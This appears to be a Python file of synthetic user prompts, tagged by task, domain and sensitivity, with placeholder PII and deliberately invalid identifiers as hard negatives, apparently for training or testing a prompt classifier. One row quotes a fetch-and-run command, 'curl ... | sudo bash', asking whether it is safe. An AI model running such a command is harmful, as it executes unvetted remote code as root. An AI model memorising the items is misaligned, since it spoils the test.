code s m p | Python script that checks a list of passwords against the Have I Been Pwned range API, sending only the first 5 characters of the SHA-1 hash.
code s l p | Write a Sigma rule that flags Office applications spawning powershell.exe.
code s m p | Explain what this does and whether it's safe: `curl -s https://get.example-tool.sh | sudo bash`
"""

GENERAL = """
qa g l p | how many ounces in a cup
qa g l p | Why is the sky blue?
qa g l p | What's the capital of Australia?
qa g l p | Who wrote "The Left Hand of Darkness"?
qa g l p | how do I stop my sourdough from going flat
qa g l p | What's the difference between a latte and a flat white?
qa g l p web | What time does the Louvre open on Sundays?
qa g l p | Which planet has the most moons?
chat g l p | hey, how's it going?
chat g l p | thanks, that fixed it!
chat g l p | good morning :)
chat g l p | I just got the job!!! can't stop smiling
chat g l p | honestly today was rough, I just want to talk to someone for a minute
chat g l p | you're a lot funnier than I expected
chat g l p | ok I'm back, sorry, the cat knocked my coffee over
chat g l p | my first salary just landed and I feel like a real adult lol
chat g l p | do you ever get bored of answering questions?
chat g l p | bye for now, talk tomorrow
creative g l p | Write a haiku about a Monday morning commute.
creative g l p | A limerick about an accountant who falls in love with a spreadsheet.
creative g m p | Short story, 300 words: a lighthouse keeper finds a message in a bottle addressed to her from the future.
creative g l p | Give me 10 name ideas for a bakery that only sells cinnamon rolls.
creative g l p | Write a toast for my brother's wedding, funny but not embarrassing, about two minutes long.
creative g l p | A rap verse about recycling for a primary school assembly.
creative g l p | Write a bedtime story about a dragon who is afraid of the dark.
creative g l p | Slogans for a bike repair shop, something punny.
draft g l p | Email to my neighbours inviting them to a street clean-up on Saturday at 10.
draft g l i | Write an agenda for a 45-minute quarterly planning meeting with five agenda items.
draft g l p | LinkedIn post announcing that I'm starting a new role as a data engineer.
draft g m i | Draft the job ad for a junior front-end developer: responsibilities, requirements, benefits, hybrid working.
draft g l i | Write a Slack message telling the team the office is closed on Friday for the electrical inspection.
draft g l p | thank-you note to my kid's teacher at the end of the year
summarize g l i | Summarise these meeting notes in three bullets: {M_MEETING}
summarize g l p | TL;DR: "The city council approved a plan to close the riverside road to cars on Sundays from May to September, turning it into a pedestrian and cycling space. Local businesses are split: cafés welcome the footfall, while the garage and two shops worry about deliveries."
summarize g l p | Summarise these reviews in one sentence: {M_REVIEWS}
sentiment g l p | Label each review positive, negative or neutral: {M_REVIEWS}
sentiment g l p | Is this sarcastic? "Oh great, another meeting that could have been an email."
sentiment g l p | How does the writer feel? "I waited all year for this concert and the sound was so muddy I left early."
classify g l p | Sort into fruit or vegetable: tomato, carrot, avocado, zucchini, apple, pepper
classify g l p | Which of these support tickets are bugs and which are feature requests? "Export button does nothing"; "Please add dark mode"; "App crashes on login"; "Would love a weekly digest email"
classify g l p | Categorise these emails as urgent, normal or low priority: server room AC failing; lunch menu for next week; client asking to move tomorrow's demo; newsletter from a vendor
extract g l p | Pull out the date, time and location: "The alumni dinner will be held on Friday 14 November at 7.30pm in the Great Hall, Old College."
extract g l p | List every action item and its owner from these notes: {M_MEETING}
translate g l p | Translate to Italian: "Where is the nearest train station?"
translate g l p | Dutch to English please: "We komen morgen iets later, de trein heeft vertraging."
translate g l p | How do you say "see you next week" in Korean?
translate g l p | Translate this menu item into English: "Pulpo a la gallega con cachelos"
reasoning g m p | I'm choosing between a 45-minute commute to a job paying 52k and a fully remote one paying 47k. What should I weigh?
reasoning g m p | Three people have to cross a bridge at night with one torch... actually, can you just walk me through how to approach river-crossing puzzles in general?
reasoning g m p | Why do some cities grow along rivers while others grow at crossroads? Walk me through the factors.
reasoning g m p | If all bloops are razzies and all razzies are lazzies, are all bloops definitely lazzies? Explain.
math g l p | what's 17% of 2,340
math g l p | Convert 72 degrees Fahrenheit to Celsius.
math g l p | Solve for x: 3x + 7 = 2x - 5
math g l p | A recipe for 4 needs 350 g of flour. How much for 7 people?
math g m p | A train leaves at 14:10 going 96 km/h; another leaves the same station at 14:40 going 120 km/h on the same track. When does the second catch up?
math g l p | derivative of x^3 * ln(x)
math g l p | What's the probability of rolling at least one six in four throws of a fair die?
code g l p | Python one-liner to flatten a list of lists
code g l p | How do I undo the last git commit but keep the changes?
code g m p | Write a function that parses and validates ISO 8601 dates in TypeScript, returning null on bad input.
code g l p | Why does this fail? {M_PYBUG}
code g l p | Fix this: {M_TRACEBACK}
code g m p | SQL: top 5 customers by total order value in the last 90 days, from tables customers(id, name) and orders(id, customer_id, total, created_at).
code g l p | bash loop to rename all .jpeg files in a folder to .jpg
code g m p | Write a React hook useDebounce(value, delay) with a cleanup on unmount and a small usage example.
"""

PII_ROWS = """
summarize f l r | Summarise this email for the AP lead: {M_VENDOR}
classify s l r | Is this a legitimate supplier request or a payment-diversion scam? {M_VENDOR}
extract f l r | Pull the beneficiary, IBAN, amount and reference of each payment: {M_PAYRUN}
math f l r | Add up today's supplier payments: {M_PAYRUN}
extract s l c | List every source IP with its number of failed logins: {M_AUTHLOG}
summarize s l c | What happened here, in three sentences? {M_AUTHLOG}
classify s l c | Which of these requests look like credential stuffing and which are normal traffic? {M_WEBLOG}
summarize m l r | Summarise this consult note for the referral letter: {M_CLINIC}
extract m l r | Extract the vitals and the plan as JSON: {M_CLINIC}
summarize m l r | Patient-friendly summary of this discharge, please: {M_DISCHARGE}
extract m l r | List the discharge medications with dose and frequency: {M_DISCHARGE}
extract f l r | What's the net pay and total tax withheld on this slip? {M_PAYSLIP}
summarize l l c | Summarise this grievance neutrally for the investigating manager: {M_GRIEVANCE}
classify l l c | Which protected characteristics, if any, does this grievance engage? {M_GRIEVANCE}
sentiment l l c | What's the tone of this email -- supportive, neutral or hostile? {M_REDUNDANCY}
extract s l c | Get the affected user, the host and the C2 address out of this timeline: {M_INCIDENT}
summarize s l c | Turn this into a three-line update for the CISO: {M_INCIDENT}
classify f l r | Which of these charges look like duplicates or errors? {M_STATEMENT}
qa f l r | My card {CARD_MC} was charged twice by the same hotel. Can I dispute one of the charges with my bank, or does it have to go through the hotel first?
draft f l r | Write a short email to Harbour Bank asking them to cancel card {CARD_VISA3}, which I lost on the train this morning, and to send a replacement to my home address.
draft f l r | Write the message to our customer asking them to update the expired card on file, ending {CARD_AMEX}; tell them the subscription renews on the 1st.
classify s l r | someone just messaged me on WhatsApp asking for my card number 4-digit CVV and expiry to "verify a parcel". I already sent {CARD_DISC} and the expiry. Is this a scam?
reasoning s m r | I typed my card {CARD_MC2} into a site that turned out to be fake about an hour ago. What should I do first: call the bank, freeze the card in the app, or report it to the police?
extract f l r | From this booking confirmation, extract the guest name, card and check-in date: "Guest: {P_NAKAMURA}, card on file {CARD_AMEX2}, check-in 12 Aug, 3 nights, confirmation sent to {E_NAKA}."
qa f l r | Is it safe to give my IBAN {IBAN_GB} to a buyer on a marketplace so he can pay me?
draft f l r | Email to my tenant {P_FERREIRA} with the new bank details for rent from October: {IBAN_PT}. Keep it short and friendly.
translate f l r | Translate into Polish: "Please transfer the deposit of 1,200 PLN to account {IBAN_PL} by Friday. Contact {P_KOWALSKI} at {PH_PL} with any questions."
extract f l r | Extract IBAN and account holder: "Kontoinhaber: {P_VOGEL}, IBAN: {IBAN_AT}, Verwendungszweck: Miete Juli"
qa f l r | Which country's bank is this IBAN from: {IBAN_CH}?
draft f l r | Write a payment instruction for 2,350 CHF to {P_DUBOIS}, IBAN {IBAN_CH}, reference "consulting June".
qa f l r | My Danish employer wants to pay my salary to {IBAN_DK} but my bank is in Norway ({IBAN_NO}). Will I get charged currency fees?
extract f l r | Put into a table: name, IBAN, amount. "Pay {P_ROSSI} EUR 2,100 to {IBAN_IT}; pay {P_SANTOS} EUR 640 to {IBAN_ES}; pay {P_HANSEN} EUR 1,050 to {IBAN_BE}."
qa f l r | I received a letter asking for my SSN {SSN_C} to claim an unclaimed refund. Do I need to give my full SSN for a tax refund from the IRS?
draft l l r | Write a letter to the credit bureau disputing an account opened in my name. My name is {P_GREEN}, SSN {SSN_D}, and I never applied for this card.
extract f l r | Fill in name, SSN and employer from this W-2 excerpt: "Employee: {P_MORALES}  SSN {SSN_B}  Employer: Cascade Foods LLC  Wages: 41,300.00"
classify s l r | An email from "HR" asks me to reply with my SSN ({SSN_A}) to update payroll. Phishing or legit?
summarize m l r | Summarise for the ward handover: "{P_LIM}, NRIC {NRIC_T}, 72M, day 3 post hip replacement, mobilising with frame, pain controlled on oral analgesia, wound clean, INR 1.1. Daughter contactable at {PH_SG2}."
extract m l r | Extract patient name, NRIC and allergy from: "Pt {P_KIM} ({NRIC_F}) allergic to penicillin -- rash and facial swelling 2019."
draft m l r | Write an appointment reminder SMS for {P_MEI}, NRIC {NRIC_S2}, for her eye screening on 14 July at 9.20am at Block 7 clinic.
translate g l r | Translate into Chinese: "Dear {P_LIM}, your work permit renewal for FIN {NRIC_G} has been approved. Please collect your card at the MOM Services Centre."
qa l l r | I'm a PR with NRIC {NRIC_M} -- do I need to update my address with ICA within 28 days of moving?
qa s l c | Why does my router log show logins from {IP_H}? I'm in Dublin and that address seems to be abroad.
code s m c | Write a fail2ban jail that bans {IP_A} and any other host with 5 failed SSH logins in 10 minutes.
reasoning s m c | Our web server at {IP_F} keeps getting traffic from {IPV6_E}. It's constant but low -- scanner, crawler or something worse? How would I tell?
qa s l c | Is {IPV6_B} a public address? It shows up in my laptop's connection list.
extract s l c | List the IPv4 and IPv6 addresses in this log: {M_WEBLOG}
draft s l c | Abuse report to the hosting provider of {IP_D}: brute-force logins against our API on 11 June between 09:42 and 09:43 UTC, followed by a successful login and an admin export.
code g l c | The dev server at {IP_I} refuses connections from my laptop at {IPV6_D} but works from {IP_C}. Write the nginx listen directives so it accepts both IPv4 and IPv6.
draft g l c | Reply to {P_ADEYEMI} ({E_ADEYEMI}) confirming our call on Thursday at 3pm and asking him to send the deck beforehand.
draft g l c | Write an intro email connecting {P_RAO} ({E_RAO}) with {P_MURPHY} ({E_MURPHY}) -- both work on payments fraud.
extract g l c | Pull out the name, email and phone: "Thanks for registering! Name: {P_OKAFOR}, email: {E_GREEN}, mobile: {PH_UK}."
classify g l c | Personal or work contact? {E_MEI}, {E_RUIZ}, {E_KOW}, {E_ROSSI}
chat g l c | just wanted to say {P_NOVAK} from your support team was brilliant yesterday, please pass it on!
draft m l c | Text for the clinic to send {P_PATEL} at {E_PATEL}: her blood test results are back and normal, no need to book a follow-up.
summarize m l c | Summarise these results for the patient in plain language: {M_LAB}
reasoning m m c | Looking at these results, what are the most likely issues a GP would want to address first, and why? {M_LAB}
draft l l c | Write a reply to {P_OBRIEN} acknowledging her message, and suggest she calls me on {PH_IE} before the next consultation meeting.
qa l l c | I'm {P_SINGH}, I was let go after 11 months with no written reason. Can I claim unfair dismissal in the UK, or do I need two years' service?
extract l l c | Who are the parties and what are the contact details? "Consultancy agreement between Rossi Studio (contact {P_ROSSI}, {E_ROSSI}, {PH_FR}) and {P_LARSSON}, sole trader, tel {PH_NL}."
sentiment g l c | How annoyed is this customer, 1-5? "Hi, it's {P_ABDI} again. Third call this week ({PH_UK2}), still no engineer. Unbelievable."
draft g l c | Write a voicemail script asking {P_DUBOIS} to call back on {PH_US2} about the venue booking.
translate g l c | Translate into German: "Please call {P_CHEN} on {PH_US3} or {PH_AU} if the delivery is late."
extract g l c | Get all phone numbers: "Reception {PH_IN}, after hours {PH_US1}, {P_KOWALSKI}'s mobile {PH_PL}."
"""

HARD_NEGATIVES = """
!qa g l p | What's new since 4.2.0.15? {M_CHANGELOG}
!summarize g l p | Summarise the last three releases for the release notes page: {M_CHANGELOG}
!extract g l p | List each version in this changelog with its release date: {M_CHANGELOG}
!code g l p | Upgrade to 4.2.0.17 fails with "schema version 41 expected, found 39". How do I run the pending migrations by hand?
!code g m p | Review this Dockerfile and tell me what to change to shrink the image: {M_DOCKERFILE}
!qa g l p | Is build 10.0.22631.3880 Windows 11 23H2 or 24H2?
!classify g l p | Which of these tags are release candidates and which are stable? 3.1.0.0-rc2, 3.1.0.4, 3.0.9.12-beta, 3.0.9.11
!draft g l i | Write the upgrade notice for customers: we move from 7.4.1.203 to 7.5.0.8 on 12 October between 22:00 and 23:30 CET; no action needed.
!code g l p | pip says "Could not find a version that satisfies the requirement grpcio-tools==1.62.2.1" -- what's wrong with my pin?
!qa g l p | My docker pull for registry.internal/api:2.14.3.7 says manifest unknown. Do tags with four numbers work?
!math g l p | Our firmware went from 1.8.0.112 to 1.8.0.240 in 18 months. If we ship the same number of builds per month, how many builds per month is that?
!qa s l p | The scanner says OpenSSH 9.3.0.1 on our jump host is vulnerable to regreSSHion. Is that version actually affected?
!draft g l i | Write a status update: order #48213377 has left the warehouse, tracking 1Z84X93E0341156207, expected delivery Thursday 19 June.
!qa g l p | Where is my order? Order number 112-8843027-5519046, placed on 2 June, says "dispatched" but no tracking.
!extract f l i | Pull invoice number, PO and amount: "Invoice INV-2025-00871 against PO 4500127733 for EUR 3,412.50, due 15/07/2025."
!classify f l i | Which of these are invoices and which are credit notes? INV-2025-00871, CN-2025-00044, INV-2025-00902, CN-2025-00051
!math f l i | Invoices INV-2025-00871 (3,412.50), INV-2025-00902 (1,180.00) and INV-2025-00913 (7,950.25) are all overdue. What's the total, and what's 2% late interest on it?
!summarize g l i | Summarise ticket INC0048213 for the handover: "User reports Outlook freezing after the 9 June update. Cleared cache, rebuilt profile, issue persists. Escalated to L2, linked to problem PRB0001127."
!draft g l i | Reply on ticket JIRA-4471: the export fix is merged and will ship in 4.2.0.17 on Friday.
!classify g l p | Sort these into bug, task or story: PROJ-1182 "Login button misaligned", PROJ-1190 "Upgrade Node to 20.11.1", PROJ-1201 "As a user I want to export to PDF"
!qa f l p | Is {BAD_CARD1} a valid card number? It's printed on a gift voucher we got at a conference.
!code g l p | Write a Luhn check in JavaScript and show that it rejects {BAD16_A}.
!classify g l p | Test data check: which of these would pass a card-number checksum? {BAD16_B}, {BAD_CARD2}
!extract g l p | Pull the booking date and the reference number from this parcel label: "Ref {BAD16_C} / booked 04.06.2025 / 2 parcels / 14.2 kg"
!qa f l p | Our POS printed {BAD_CARD3} as the "terminal reference". Is that something I should keep for reconciliation?
!qa f l p | Why does my bank reject {BAD_IBAN_DE} as invalid when I copied it from the invoice?
!code g m p | Python function that validates IBANs with the mod-97 check; use {BAD_IBAN_GB} as a failing test case.
!classify f l p | Valid or invalid IBAN format? {BAD_IBAN_FR}
!qa f l p | The supplier's IBAN {BAD_IBAN_NL} fails in our banking portal. Is it the checksum or the length?
!draft f l i | Write to the supplier saying the bank details on their invoice ({BAD_IBAN_ES}) fail validation and asking them to resend them on letterhead.
!extract f l p | Split this string into country code, check digits and BBAN: {BAD_IBAN_IT}
!qa g l p | A form says {BAD_NRIC_S} is not a valid NRIC. What does the last letter check?
!code g m p | Write a function that validates Singapore NRIC/FIN check letters and explain why {BAD_NRIC_T} and {BAD_NRIC_G} fail.
!classify g l p | Which of these are dates and which are version numbers: 2025.06.11, 3.4.1.9, 11/06/2025, 1.0.0.2024
!math f l p | Salary went from 52,300.00 to 56,120.00 on 01/04/2025. Percentage rise?
!extract f l p | Pull out all the amounts and dates: "Paid $1,204,330.18 on 2024-12-31; balance of $88,019.40 due 2025-03-15; EUR 14.600,00 received 3/2/2025."
!classify g l p | Are these SKUs or serial numbers? SKU 4411-2093-7780-1265, SN-8820-1147-3391, SKU 0093-5521-6640-0017
!qa g l p | Can I track a parcel with tracking number 9400 1118 9922 3745 8834 29 on the Royal Mail site, or is that a USPS number?
!draft g l i | Write the stock-count instruction for the warehouse: recount bins A-14 to A-22 and SKU 7741-0032-1190-5508 before 30 June.
!extract g l p | List the part numbers and quantities: "2x PN 88-4410-2291, 1x PN 88-4410-3307, 6x PN 12-0043-0019-77"
!reasoning g m p | Employee ID E204417 shows up twice in the export with different hire dates, 2019-03-04 and 2021-03-04. Which is more likely right, and how would I check?
!summarize f l i | Summarise the purchase order: "PO 4500127733 dated 03.06.2025, 400 units of SKU 1120-8841 at EUR 12.40, delivery week 27, payment 60 days net, total EUR 4,960.00."
!sentiment g l p | Is this release note upbeat or apologetic? "Version 6.0.2.41 fixes the sync issues many of you hit after 6.0.2.38 -- sorry, and thanks for your patience."
!translate g l p | Translate to French: "Your order #CE-20250611-3381 will be delivered between 14:00 and 18:00 on 13/06/2025."
!qa s l p | Is section 4.2.1.3 of the PCI DSS the one about encrypting cardholder data over public networks?
!code g l p | Regex that matches version strings like 4.2.0.17 or 10.3.1.205 but not dates like 2025.06.11.
!math g l p | The MAC table shows 00:1a:2b:3c:4d:5e at 12:04:33 and again at 12:19:07. How many seconds apart is that?
!translate f l p | Translate into English: "La factura FV-2025/0412 por importe de 2.318,40 EUR vence el 30/06/2025."
"""

MULTI = """
draft s m i => Draft a short policy on personal devices accessing company email ;; math f l i => work out what 35 extra MDM licences at 4.20 per device per month cost per year ;; summarize s l p => summarise the guidance below in three bullets | Draft a short policy on personal devices accessing company email, work out what 35 extra MDM licences at 4.20 per device per month cost per year, and summarise the guidance below in three bullets: "Separate work and personal data with managed apps; require a device PIN and encryption; allow remote wipe of work data only; block jailbroken or rooted devices; keep OS updates within 14 days of release."
summarize l l p => Summarise this NDA section ;; reasoning l m p => tell me whether five years is unusual for a supplier relationship | Summarise this NDA section, then tell me whether five years is unusual for a supplier relationship. {M_NDA}
translate f l i => Translate this into English ;; draft f l i => write a two-line reply in German saying we will pay by Friday | Translate this into English and write a two-line reply in German saying we will pay by Friday: "Sehr geehrte Damen und Herren, leider ist unsere Rechnung vom 3. Mai noch offen. Bitte überweisen Sie den Betrag bis Ende der Woche, sonst müssen wir Mahngebühren berechnen."
summarize g l i => Summarise the notes below for the leadership team ;; classify g l i => Classify the outage as SEV1, SEV2, SEV3 or SEV4 ;; draft g l i => Draft a short customer notice | 1) Summarise the notes below for the leadership team. 2) Classify the outage as SEV1, SEV2, SEV3 or SEV4. 3) Draft a short customer notice. {M_RCA_NOTES}
qa f l p => What's the difference between a Roth and a traditional IRA? ;; math f l p => calculate how much I'd have after 25 years putting in 6,500 a year at 7% | What's the difference between a Roth and a traditional IRA? Also, calculate how much I'd have after 25 years putting in 6,500 a year at 7%.
translate g l p => translate the invitation text into Portuguese ;; math f l i => work out the cost per person if the venue is 4,200 EUR and catering is 38 EUR a head for 26 people ;; draft g l p => draft a packing checklist for two days | For the Lisbon offsite, can you:\\n- translate the invitation text into Portuguese ("Join us for two days of planning, food and sunshine by the river!")\\n- work out the cost per person if the venue is 4,200 EUR and catering is 38 EUR a head for 26 people\\n- draft a packing checklist for two days
extract s l c => Extract all the IP addresses from this log ;; classify s l c => mark each one as block or watch | Extract all the IP addresses from this log. Once done, mark each one as block or watch. {M_AUTHLOG}
summarize m l p => summarise the trial below ;; reasoning m m p => explain whether a 1.8-day difference is clinically meaningful | Can you summarise the trial below and explain whether a 1.8-day difference is clinically meaningful? {M_TRIAL}
code g l p => Fix this function so it handles an empty list ;; draft g l p => write a one-line commit message for the change | Fix this function so it handles an empty list, and finally write a one-line commit message for the change. {M_PYBUG}
extract f l r => List the card payments over 50 EUR ;; math f l r => add up what I actually paid Spotify this month | List the card payments over 50 EUR, then add up what I actually paid Spotify this month. {M_STATEMENT}
classify s l c => Tell me if this is phishing ;; draft s l c => draft a short warning for the team | Tell me if this is phishing and draft a short warning for the team. {M_PHISH}
sentiment g l i => How did the customer feel by the end? ;; summarize g l i => Summarise the conversation for the CRM ;; draft g l i => draft a follow-up email apologising again | How did the customer feel by the end? Summarise the conversation for the CRM and draft a follow-up email apologising again. {M_CHAT_TRANSCRIPT}
translate m l p => Traduce esto al inglés: "Tomar 1 comprimido de ciprofloxacino cada 12 horas durante 7 días." ;; qa m l p => is it OK to take it with milk? | Traduce esto al inglés: "Tomar 1 comprimido de ciprofloxacino cada 12 horas durante 7 días." Also, is it OK to take it with milk?
code s m p => Write a Python script that flags accounts with more than 5 failed logins in 10 minutes ;; draft s l i => draft the alert text the SOC analysts will see | Write a Python script that flags accounts with more than 5 failed logins in 10 minutes, then draft the alert text the SOC analysts will see.
reasoning l m p => Should I accept their settlement offer of 6,000 or hold out for the full 9,500 I'm owed? ;; draft l l p => write a reply to their solicitor | Should I accept their settlement offer of 6,000 or hold out for the full 9,500 I'm owed? Whatever you recommend, write a reply to their solicitor.
math f l p => Work out the monthly repayment on a 240,000 mortgage at 4.3% over 25 years and over 30 years ;; reasoning f m p => Which term makes more sense if I expect a decent pay rise in two years? | Work out the monthly repayment on a 240,000 mortgage at 4.3% over 25 years and over 30 years. Which term makes more sense if I expect a decent pay rise in two years?
translate g l p => Translate these Japanese reviews into English ;; sentiment g l p => tell me which ones are negative | Translate these Japanese reviews into English and tell me which ones are negative: 「とても使いやすいです」「二日で壊れました」「値段の割に普通」
qa g l p => What's the difference between a process and a thread? ;; code g l p => Show me a small Python example with threading | What's the difference between a process and a thread? Show me a small Python example with threading.
creative g l p => Write a four-line birthday poem for my grandmother ;; translate g l p => translate it into Italian | Write a four-line birthday poem for my grandmother and translate it into Italian -- she'll be 90 on Sunday.
summarize m l r => Summarise the consult note ;; extract m l r => list any red-flag symptoms it mentions | Summarise the consult note and list any red-flag symptoms it mentions. {M_CLINIC}
qa m l p => How are children's paracetamol doses worked out? ;; math m l p => My son weighs 18 kg, what's a single dose at 15 mg/kg | How are children's paracetamol doses worked out? My son weighs 18 kg, what's a single dose at 15 mg/kg, and how many ml is that of the 120 mg/5 ml syrup?
draft s m p => Draft a one-page password policy for the shop staff ;; classify s l p => rate these example passwords from our training slides as weak, OK or strong | Draft a one-page password policy for the shop staff, and rate these example passwords from our training slides as weak, OK or strong: summer2024, Tr0ub4dor&3, correct-horse-battery-staple, qwerty123.
reasoning g m p => Help me choose between Lisbon and Porto for a 12-person team offsite in October ;; draft g l i => draft the announcement email | Help me choose between Lisbon and Porto for a 12-person team offsite in October, then draft the announcement email for whichever wins.
extract l l p => Pull out the governing law and the termination clause ;; translate l l p => translate both into Spanish | Pull out the governing law and the termination clause, then translate both into Spanish: "12. Termination. Either party may terminate this Agreement on 60 days' written notice. 13. Governing law. This Agreement is governed by the laws of the Republic of Ireland. 14. Notices. Notices shall be sent by registered post."
summarize f l i => Summarise the Q2 report below ;; qa f l p => what's a normal DSO for a wholesale business? | Summarise the Q2 report below. Also: what's a normal DSO for a wholesale business? {M_QREPORT}
math f l p => Calculate the VAT on a 2,400 EUR invoice at 21% ;; draft f l p => write the payment reminder including the gross total | Calculate the VAT on a 2,400 EUR invoice at 21%, then write the payment reminder including the gross total.
code g m p => Write a SQL query for monthly active users from events(user_id, ts) ;; qa g l p => what's the difference between COUNT(*) and COUNT(DISTINCT user_id)? | Write a SQL query for monthly active users from events(user_id, ts). And what's the difference between COUNT(*) and COUNT(DISTINCT user_id)?
classify g l p => Tag each comment by topic (delivery, price, quality) ;; sentiment g l p => give each one a sentiment score from -2 to +2 | Tag each comment by topic (delivery, price, quality). Then give each one a sentiment score from -2 to +2. "Took 3 weeks to arrive." / "Cheaper than the shops and just as good." / "Stitching came apart after one wash." / "Courier left it in the rain."
qa l l p => Can my employer change my shift pattern without consulting me? ;; draft l l p => write me a short email to HR objecting to the change | Can my employer change my shift pattern without consulting me? If not, write me a short email to HR objecting to the change.
extract m l r => Extract the follow-up actions from this discharge summary ;; draft m l r => draft a reminder text for the patient | Extract the follow-up actions from this discharge summary and draft a reminder text for the patient. {M_DISCHARGE}
classify s l i => Triage these alerts into true positive or false positive ;; summarize s l i => summarise the true positives for the shift log | Triage these alerts into true positive or false positive, and summarise the true positives for the shift log:\\n- Impossible travel: finance user signed in from Lagos and Leeds 20 minutes apart, MFA denied\\n- AV detection: EICAR test file on the QA laptop\\n- New inbox rule forwarding all mail to an external address on the CFO mailbox\\n- Port scan from the vulnerability scanner during its weekly window
summarize g l i => Summarise the meeting notes ;; extract g l i => list the action items ;; draft g l i => draft the follow-up email to the attendees | Summarise the meeting notes, list the action items and draft the follow-up email to the attendees. {M_MEETING}
qa s l p => What is a SIM-swap attack? ;; draft s l p => Write three tips I can send to my parents to protect themselves | What is a SIM-swap attack? Write three tips I can send to my parents to protect themselves.
sentiment f l p => Is this earnings call excerpt positive or negative on margins? ;; summarize f l p => Give me the two key numbers | Is this earnings call excerpt positive or negative on margins? Give me the two key numbers. "We delivered gross margin of 38.5%, up 160 basis points, and we now expect full-year operating margin at the top end of our 11-12% range, despite continued pressure on freight."
translate l l p => Translate the clause into plain English ;; classify l l p => say whether it favours the landlord or the tenant | Translate the clause into plain English and say whether it favours the landlord or the tenant: "The Lessee shall indemnify and hold harmless the Lessor from and against any and all claims arising from the Lessee's use of the Premises, howsoever caused."
code s m p => Write a bash one-liner to list all SUID binaries on a Linux box ;; qa s l p => why attackers care about them | Write a bash one-liner to list all SUID binaries on a Linux box, and explain briefly why attackers care about them.
creative g l p => Write a short poem for the retirement card of our office manager ;; draft g l i => a two-line message inviting everyone to sign it | Write a short poem for the retirement card of our office manager, plus a two-line message inviting everyone to sign it before Thursday.
math g l p => How many litres of paint do I need for a room 4 m by 3.5 m with 2.6 m ceilings, two coats, 10 m² per litre? ;; reasoning g m p => is matt or silk better for a kitchen? | How many litres of paint do I need for a room 4 m by 3.5 m with 2.6 m ceilings, two coats, 10 m² per litre? And is matt or silk better for a kitchen?
summarize l l c => Summarise the grievance below ;; reasoning l m c => tell me what the employer's biggest legal risks are ;; draft l m c => draft an acknowledgment letter | Summarise the grievance below, tell me what the employer's biggest legal risks are, and draft an acknowledgment letter. {M_GRIEVANCE}
extract s l c => Which addresses are involved here and what did each one do? ;; draft s m c => Draft the containment steps as a checklist | Which addresses are involved here and what did each one do? Draft the containment steps as a checklist. {M_WEBLOG}
code s m p => Review this snippet for vulnerabilities ;; code s l p => rewrite it with a parameterised query | Review this snippet for vulnerabilities and rewrite it with a parameterised query. {M_SQLI}
reasoning s m i => Is this permission change safe? ;; draft s l i => Write the PR review comment either way | Is this permission change safe? Write the PR review comment either way. {M_DIFF}
classify m l p => Sort these symptoms into "call 999 now" and "see a GP this week" ;; draft m l p => write them up as a fridge poster for an elderly parent | Sort these symptoms into "call 999 now" and "see a GP this week", then write them up as a fridge poster for an elderly parent: face drooping, persistent cough for 3 weeks, chest pain spreading to the jaw, sudden confusion, blood in urine, ankle swelling.
qa m l p => what's the normal range for TSH ;; summarize m l p => sum up this result line for me | what's the normal range for TSH, and sum up this result line for me: "TSH 6.8 mIU/L (H), free T4 12 pmol/L (N) -- suggest repeat in 6-8 weeks with TPO antibodies."
translate m l p => Translate the discharge advice into Arabic ;; draft m l p => write a two-sentence version for a text message | Translate the discharge advice into Arabic and write a two-sentence version for a text message: "Keep the wound dry for 48 hours. Take the antibiotics until the course is finished. Come back if the redness spreads or you develop a fever."
math f l p => If I earn 48,000, how much income tax do I pay with a 12,570 allowance and 20% basic rate up to 50,270? ;; qa f l p => does salary sacrifice into a pension reduce this? | If I earn 48,000, how much income tax do I pay with a 12,570 allowance and 20% basic rate up to 50,270? And does salary sacrifice into a pension reduce this?
draft f m i => Write the budget section of our grant application ;; math f l i => check that the line items add up to the 85,000 total | Write the budget section of our grant application and check that the line items add up to the 85,000 total: staff 52,400; equipment 14,750; travel 6,300; dissemination 4,900; overheads 6,650.
classify f l p => Classify these as assets or liabilities ;; qa f l p => explain what "working capital" means | Classify these as assets or liabilities -- trade receivables, bank overdraft, inventory, deferred revenue, prepaid rent -- and explain what "working capital" means.
extract f l i => Pull the amounts and dates from this email chain ;; summarize f l i => summarise what the customer is disputing | Pull the amounts and dates from this email chain and summarise what the customer is disputing: "On 3 March we were invoiced 12,400 for the annual licence. On 20 March we reduced seats from 50 to 35 and were promised a pro-rata credit of 3,720. The April invoice still shows 12,400 and no credit. Please correct by 30 April."
qa g l p | Happy Friday! Random one: what's a good board game for four adults who hate long rules?
qa g l p => Who painted the ceiling of the Sistine Chapel? ;; creative g l p => write a two-line rhyme about it for my kid's homework | Who painted the ceiling of the Sistine Chapel? Then write a two-line rhyme about it for my kid's homework.
code g m p => Write a Python function that reads a CSV of expenses and returns totals per category ;; draft g l p => the README section explaining how to run it | Write a Python function that reads a CSV of expenses and returns totals per category, plus the README section explaining how to run it.
summarize s l i => Summarise the pen-test findings for non-technical managers ;; classify s l i => rank them by risk ;; draft s m i => propose a 30-day remediation plan | Summarise the pen-test findings for non-technical managers, rank them by risk, and propose a 30-day remediation plan:\\n1. Exposed RDP on a legacy accounting server\\n2. Reused local admin password across 40 workstations\\n3. Missing HSTS on the customer portal\\n4. Outdated jQuery on the marketing site\\n5. No MFA on the VPN for contractors
reasoning s m c => Which of these rules are risky? ;; code s l c => Rewrite them so only the office network can reach SSH and RDP | Which of these rules are risky? Rewrite them so only the office network can reach SSH and RDP. {M_FIREWALL}
qa l l p => What's the statutory minimum notice for someone with six years' service in the UK? ;; draft l l i => draft the notice letter for an employee leaving on that basis | What's the statutory minimum notice for someone with six years' service in the UK? Then draft the notice letter for an employee leaving on that basis.
extract l l p => List the obligations of each party ;; classify l l p => flag any that look one-sided | List the obligations of each party in this lease extract and flag any that look one-sided. {M_LEASE}
summarize l l p => summarise the data retention rules below as a table ;; reasoning l m p => whether keeping payroll records for 7 years conflicts with GDPR storage limitation | Two things: summarise the data retention rules below as a table, and tell me whether keeping payroll records for 7 years conflicts with GDPR storage limitation. {M_POLICY}
sentiment g l p => Rate the mood of this team survey comment ;; draft g l i => suggest how the manager could respond | Rate the mood of this team survey comment and suggest how the manager could respond: "We keep being told our feedback matters, but nothing ever changes. I've stopped bothering."
translate g l p => Translate "mind the gap" into French, Spanish and German ;; creative g l p => write a silly tube-announcement poem using all four versions | Translate "mind the gap" into French, Spanish and German, and then write a silly tube-announcement poem using all four versions.
math g l p => What's the average of 14, 22, 9, 31 and 17? ;; code g l p => how would I compute that in Excel? | What's the average of 14, 22, 9, 31 and 17? And how would I compute that in Excel?
